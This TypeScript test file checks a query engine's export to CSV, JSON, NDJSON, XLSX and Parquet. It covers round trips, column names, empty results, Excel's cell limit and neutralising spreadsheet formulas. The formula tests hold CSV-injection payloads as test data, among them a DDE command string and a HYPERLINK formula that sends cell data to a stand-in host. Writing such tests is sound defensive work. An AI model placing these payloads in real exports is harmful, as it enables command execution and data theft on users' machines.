import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { type ColumnSpec, FILE_FORMATS, type Row, sql } from '../../src/node-sdk';
import { constant } from '../../src/engine/query-engine/database/constant';
import { parquetRows } from '../../src/engine/query-engine/output/parquet-result';
import { readCsv } from '../support/csv-reader';
import { engineHarness } from '../support/engine-harness';
import { filesOf, type MadeFiles, RowFilesIntegration } from '../support/row-files';
import { readXlsx, type XlsxCell } from '../support/xlsx-reader';

const engine = engineHarness([RowFilesIntegration]);
afterAll(() => engine.close());

/** More rows than a page holds: they lie in a Parquet file, fewer in lines of JSON. */
const MANY = 1001;
const repeated = (rows: readonly Row[], count: number): Row[] =>
  Array.from({ length: count }, (_, index) => rows[index % rows.length] ?? {});

/** What a spreadsheet must not run, told independently of the product. */
function disarmed(text: string): string {
  const begin = text.replace(/^[\p{Z}\p{Cc}\p{Cf}"]+/u, '');
  const runs = /^[=+\-@＝＋－＠﹦﹢﹣﹫]/.test(begin) || /^[\t\r\n]/.test(text);
  const isNumber = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(text);
  return runs && !isNumber ? `'${text}` : text;
}

const COLUMNS: readonly ColumnSpec[] = [
  { name: 'n', type: 'number' },
  { name: 'i', type: 'number' },
  { name: 's', type: 'string' },
  { name: 'b', type: 'boolean' },
  { name: 'day', type: 'date' },
  { name: 'at', type: 'datetime' },
  { name: 'clock', type: 'time' },
  { name: 'o', type: 'object' },
];

const hostile = fc.constantFrom(
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1',
  '-',
  '-1 day',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n',
  ' =1',
  '"=1"',
  '＝1',
  '\uFEFF=1',
  '\u200B@x',
  '',
  'null',
  'NULL',
  '-12.50',
  '1e5',
  'a,b',
  'a;b',
  'say "hi"',
  'line\nline',
  'line\r\nline\r',
  '_x0041_x0042_',
  '\u0000\u0001\u001F\uFFFE\uFFFF',
  ']]>&<tag/>&amp;',
  ' both ends ',
);
const text = fc.oneof(hostile, fc.string(), fc.string({ unit: 'binary' }));
const moment = fc.date({
  min: new Date('0001-01-01T00:00:00.000Z'),
  max: new Date('9999-12-31T23:59:59.999Z'),
  noInvalidDate: true,
});
const orNull = <T>(values: fc.Arbitrary<T>): fc.Arbitrary<T | null> =>
  fc.option(values, { freq: 6 });
const padded = (value: number, digits: number): string => String(value).padStart(digits, '0');
const row: fc.Arbitrary<Row> = fc.record({
  n: orNull(fc.double({ noNaN: true, noDefaultInfinity: true })),
  i: orNull(fc.maxSafeInteger()),
  s: orNull(text),
  b: orNull(fc.boolean()),
  day: orNull(moment.map((date) => date.toISOString().slice(0, 10))),
  at: orNull(moment.map((date) => date.toISOString())),
  clock: orNull(
    fc
      .nat(86_399_999_999)
      .map(
        (micros) =>
          new Date(Math.floor(micros / 1000)).toISOString().slice(11, 23) +
          padded(micros % 1000, 3),
      ),
  ),
  o: orNull(fc.dictionary(fc.string(), fc.oneof(text, fc.integer(), fc.constant(null)))),
});

type Field = Row[string];
type FieldReader = (value: unknown, column: ColumnSpec) => Field;

const DAY = 86_400_000;
const microsOfDay = (clock: string): number => {
  const [hours = 0, minutes = 0, seconds = 0] = clock.split(':').map(Number);
  return Math.round(((hours * 60 + minutes) * 60 + seconds) * 1_000_000);
};

/** The rows of a page in the terms of the readers below: free text may be disarmed, times count. */
const expected = (rows: readonly Row[], text: (value: string) => string): Row[] =>
  rows.map((one) => ({
    ...one,
    s: typeof one['s'] === 'string' ? text(one['s']) : null,
    clock: typeof one['clock'] === 'string' ? microsOfDay(one['clock']) : null,
  }));

const rowOf = (fields: readonly unknown[], read: FieldReader): Row =>
  Object.fromEntries(
    COLUMNS.map((column, index) => {
      const field = fields[index] ?? null;
      return [column.name, field === null ? null : read(field, column)];
    }),
  );

const fromText: FieldReader = (field, { type }) => {
  if (type === 'number') return Number(field);
  if (type === 'object') return JSON.parse(String(field)) as Field;
  if (type === 'time') return microsOfDay(String(field));
  return type === 'boolean' ? field === 'true' : String(field);
};

const fromCell: FieldReader = (field, { type }) => {
  const { value, format } = field as XlsxCell;
  if (type === 'object') return JSON.parse(String(value)) as Field;
  if (typeof value !== 'number' || type === 'number') return value;
  if (type === 'time') return Math.round(value * DAY * 1000);
  const iso = new Date(Math.round((value - 25_569) * DAY)).toISOString();
  if (iso < '1900-03-01') return 'a number that means several days';
  if (type === 'date') return format === 'yyyy\\-mm\\-dd' ? iso.slice(0, 10) : format;
  return format === 'yyyy\\-mm\\-dd\\ hh:mm:ss' ? iso : format;
};

const fromParquet: FieldReader = (field, { type }) => {
  if (type === 'datetime')
    return new Date(String(field).replace(' ', 'T').replace('+00', 'Z')).toISOString();
  return type === 'time' ? microsOfDay(String(field)) : (field as Field);
};

/** How many of the rows are compared; the others repeat them. */
const COMPARED = 30;

function expectCsv({ rows, file }: MadeFiles, count: number): void {
  const [header, ...records] = readCsv(file('csv').toString());
  expect(header).toEqual(COLUMNS.map(({ name }) => name));
  expect(records).toHaveLength(count);
  const read = records.slice(0, COMPARED).map((record) => rowOf(record, fromText));
  expect(read).toEqual(expected(rows.slice(0, COMPARED), disarmed));
}

function expectJson({ rows, file }: MadeFiles, count: number): void {
  const all = JSON.parse(file('json').toString()) as Row[];
  expect(all).toHaveLength(count);
  expect(all.slice(0, COMPARED)).toEqual(rows.slice(0, COMPARED));
  const lines = file('ndjson').toString().split('\n');
  expect(lines.pop()).toBe('');
  expect(`[${lines.join(',')}]`).toBe(file('json').toString());
}

async function expectXlsx({ rows, file }: MadeFiles, count: number): Promise<void> {
  const [sheet, ...others] = await readXlsx(file('xlsx'));
  expect(others).toEqual([]);
  const [header = [], ...records] = sheet?.rows ?? [];
  expect(header.map(({ value }) => value)).toEqual(COLUMNS.map(({ name }) => name));
  expect(records).toHaveLength(count);
  const read = records.slice(0, COMPARED).map((cells, index) => {
    const at = (column: number) => `${String.fromCharCode(65 + column)}${String(index + 2)}`;
    const inOrder = COLUMNS.map((_, column) => cells.find(({ place }) => place === at(column)));
    return rowOf(inOrder, fromCell);
  });
  expect(read).toEqual(expected(rows.slice(0, COMPARED), disarmed));
}

let parquets = 0;

/** What DuckDB finds in a Parquet file. */
async function readParquet(content: Buffer) {
  const path = join(engine.folder, 'files', '1', `${String(++parquets)}.parquet`);
  writeFileSync(path, content);
  const session = await engine.database.open();
  try {
    const all = sql`SELECT * FROM ${parquetRows(path)}`;
    return {
      names: await session.texts(sql`SELECT name FROM parquet_schema(${constant(path)}) OFFSET 1`),
      types: await session.typesOf(all),
      rows: (await session.texts(sql`SELECT to_json(t) FROM (${all}) AS t`)).map(
        (one) => JSON.parse(one) as Row,
      ),
    };
  } finally {
    await session.close();
  }
}

async function expectParquet({ rows, file }: MadeFiles, count: number): Promise<void> {
  const parquet = await readParquet(file('parquet'));
  expect(parquet.names).toEqual(COLUMNS.map(({ name }) => name));
  const types = ['VARCHAR', 'BOOLEAN', 'DATE', 'TIMESTAMP WITH TIME ZONE', 'TIME', 'JSON'];
  expect(parquet.types.slice(2)).toEqual(types);
  expect(parquet.rows).toHaveLength(count);
  const read = parquet.rows.slice(0, COMPARED).map((one) => rowOf(Object.values(one), fromParquet));
  expect(read).toEqual(expected(rows.slice(0, COMPARED), (same) => same));
}

describe('any rows, read back by others', () => {
  it.each([
    ['kept as lines', 1],
    ['kept as a file', MANY],
  ])('%s', async (_, least) => {
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 12 }), async (few) => {
        const rows = repeated(few, Math.max(least, few.length));
        const made = await filesOf(engine, rows, FILE_FORMATS, COLUMNS);
        expectCsv(made, rows.length);
        expectJson(made, rows.length);
        await expectParquet(made, rows.length);
        await expectXlsx(made, rows.length);
      }),
      { numRuns: least === 1 ? 25 : 4 },
    );
  });
});

describe('formulas', () => {
  const texts = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"y")',
    '+1+1',
    '-1+1',
    '-',
    '@SUM(1+1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tharmless',
    '  =1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '"=1',
    ' "=1',
    '＝1',
    '＋1',
    '－1',
    '＠1',
    '﹦1',
    '-5 days',
    '-1e5x',
    '+49 30 1234',
  ];
  const harmless = ["'=1", 'a=1', '5-3', '(=1)', '', ' ', '-5', '+5.25', '-1e5', '-.5', 'é', '_x'];

  it.each([1, 30])('are disarmed in csv and xlsx (%d times)', async (times) => {
    const all = [...texts, ...harmless];
    const rows = repeated(
      all.map((t) => ({ t, o: { t } })),
      all.length * times,
    );
    const { file } = await filesOf(engine, rows, ['csv', 'xlsx', 'ndjson']);
    const cells = (await readXlsx(file('xlsx')))[0]?.rows.slice(1).map(([cell]) => cell?.value);
    const fields = readCsv(file('csv').toString())
      .slice(1)
      .map(([field]) => field);
    for (const read of [cells, fields]) {
      expect(read?.slice(0, texts.length)).toEqual(texts.map((one) => `'${one}`));
      expect(read?.slice(texts.length, all.length)).toEqual(harmless);
    }
    expect(JSON.parse(file('ndjson').toString().split('\n')[0] ?? '')).toEqual(rows[0]);
  });

  it('are disarmed in the names of columns', async () => {
    const rows = [{ '=1+1': 1, '@x': 2, '-3': 3, 'a,"b"': 4 }];
    const { file } = await filesOf(engine, rows, ['csv', 'xlsx', 'ndjson']);
    const names = ["'=1+1", "'@x", '-3', 'a,"b"'];
    expect(readCsv(file('csv').toString())[0]).toEqual(names);
    expect((await readXlsx(file('xlsx')))[0]?.rows[0]?.map(({ value }) => value)).toEqual(names);
    expect(JSON.parse(file('ndjson').toString())).toEqual(rows[0]);
  });

  it('are never suspected in numbers and dates', async () => {
    const { file } = await filesOf(engine, [{ n: -1.5, i: -7 }], ['csv', 'xlsx']);
    expect(file('csv').toString()).toBe('n,i\r\n-1.5,-7\r\n');
    const row = (await readXlsx(file('xlsx')))[0]?.rows[1];
    expect(row?.map(({ value }) => value)).toEqual([-1.5, -7]);
  });
});

describe('csv', () => {
  it('tells null from the empty text, quotes where a reader needs it and ends each line with CRLF', async () => {
    const rows = [
      { a: null, b: '', c: 'x' },
      { a: 'a,b', b: 'a;b', c: 'a\tb' },
      { a: 'say "hi"', b: '1\n2', c: { d: ['é', null] } },
    ];
    const { file } = await filesOf(engine, rows, ['csv']);
    expect(file('csv').toString()).toBe(
      [
        'a,b,c',
        ',"",x',
        '"a,b","a;b","a\tb"',
        '"say ""hi""","1\n2","{""d"":[""é"",null]}"',
        '',
      ].join('\r\n'),
    );
  });
});

describe('names of columns', () => {
  it.each([1, MANY])('differ in case, and are any text (%d rows)', async (count) => {
    const names = [
      'Name',
      'name',
      'NAME_1',
      'né "q"',
      "it's",
      'a\u0000b',
      '_x0041_',
      'x\ny',
      '<&>',
    ];
    const row = Object.fromEntries(names.map((name, index) => [name, index]));
    const { file } = await filesOf(engine, repeated([row], count), FILE_FORMATS);
    expect(readCsv(file('csv').toString())[0]).toEqual(names);
    expect((await readXlsx(file('xlsx')))[0]?.rows[0]?.map(({ value }) => value)).toEqual(names);
    expect(Object.keys((JSON.parse(file('json').toString()) as Row[])[0] ?? {})).toEqual(names);
    const parquet = await readParquet(file('parquet'));
    expect(parquet.names).toEqual([
      'Name',
      'name_2',
      'NAME_1',
      ...names.slice(3, 5),
      'ab',
      ...names.slice(6),
    ]);
    expect(parquet.types).toEqual(names.map(() => 'BIGINT'));
  });
});

describe('without rows', () => {
  it('a header stays', async () => {
    const { file } = await filesOf(engine, [], FILE_FORMATS, COLUMNS);
    expect(file('csv').toString()).toBe('n,i,s,b,day,at,clock,o\r\n');
    expect(file('json').toString()).toBe('[]');
    expect(file('ndjson').toString()).toBe('');
    expect((await readXlsx(file('xlsx')))[0]?.rows).toHaveLength(1);
    const parquet = await readParquet(file('parquet'));
    expect(parquet.names).toEqual(COLUMNS.map(({ name }) => name));
    expect(parquet.rows).toEqual([]);
  });

  it('or columns there is little to write, and Parquet says so', async () => {
    const { file } = await filesOf(engine, [], ['csv', 'json', 'ndjson', 'xlsx']);
    expect([file('csv').toString(), file('json').toString()]).toEqual(['\r\n', '[]']);
    expect((await readXlsx(file('xlsx')))[0]?.rows).toEqual([[]]);
    await expect(filesOf(engine, [], ['parquet'])).rejects.toThrow(
      'The rows have no columns, and a Parquet file needs at least one',
    );
  });
});

describe('what a sheet cannot hold', () => {
  const longest = 32_767;
  it.each([
    ['x'.repeat(longest), true],
    ['x'.repeat(longest + 1), false],
    [`=${'x'.repeat(longest - 2)}`, true],
    [`=${'x'.repeat(longest - 1)}`, false],
    ['é'.repeat(longest), true],
    ['😀'.repeat(16_383), true],
    ['😀'.repeat(16_384), false],
  ])('a text too long by one is refused, never cut', async (t, fits) => {
    const made = filesOf(engine, [{ note: 'short' }, { note: t }], ['xlsx']);
    if (fits) {
      const sheet = (await readXlsx((await made).file('xlsx')))[0];
      expect(sheet?.rows[2]?.[0]?.value).toBe(disarmed(t));
    } else {
      await expect(made).rejects.toThrow(
        'Column "note" has a text of 32768 characters, but a cell of Excel holds 32767. ' +
          'Take another format: csv, ndjson, json or parquet.',
      );
    }
  });
});
